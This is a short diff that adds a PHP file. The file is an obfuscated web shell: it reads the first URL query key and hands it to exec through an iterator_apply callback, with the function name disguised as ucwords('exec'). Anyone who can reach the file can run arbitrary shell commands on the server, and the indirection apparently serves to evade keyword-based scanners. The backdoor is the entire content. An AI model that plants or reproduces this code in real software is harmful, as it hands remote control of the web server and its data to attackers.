@@ -1,0 +1,4 @@
+<?php
+$arg = key($_GET);
+$it = new ArrayIterator(array($arg));
+iterator_apply($it, ucwords('exec'), array($arg));
